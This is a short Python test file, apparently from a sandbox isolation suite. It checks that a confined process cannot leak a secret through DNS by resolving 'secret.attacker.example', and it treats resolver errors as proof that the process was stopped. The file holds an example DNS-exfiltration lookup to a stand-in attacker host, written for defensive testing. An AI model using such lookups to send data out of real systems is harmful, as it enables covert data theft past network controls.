# SPDX-License-Identifier: Apache-2.0
#
# Tries to: carry a secret out in a name that it looks up
# Promise:  no-network
# Oracle:   network
# Stops:    EAIAGAIN=namespace EAINONAME=namespace
# Not promised: process=process-network
# Because:  a cell has no resolver to ask, and no way to one
import os
import socket

os.environ["RES_OPTIONS"] = "timeout:1 attempts:1"
try:
    print(socket.getaddrinfo("secret.attacker.example", 80))
except socket.gaierror as e:
    words = {socket.EAI_AGAIN: "EAIAGAIN", socket.EAI_NONAME: "EAINONAME"}
    print("stopped:", words.get(e.errno, e), "at getaddrinfo")
